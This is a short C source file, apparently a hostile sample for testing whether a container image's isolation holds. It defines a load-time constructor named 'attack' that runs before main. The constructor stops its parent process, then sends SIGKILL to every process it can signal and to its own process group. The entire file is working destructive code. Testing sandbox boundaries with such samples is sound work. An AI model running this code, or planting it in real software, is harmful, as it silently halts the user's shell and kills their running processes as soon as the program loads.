/* SPDX-License-Identifier: MIT */
/* Runs before main, on the host; the image has a border against it. */
extern int kill(int, int);
extern int getppid(void);

static void __attribute__((constructor)) attack(void)
{
    kill(getppid(), 19);
    kill(-1, 9);
    kill(0, 9);
}
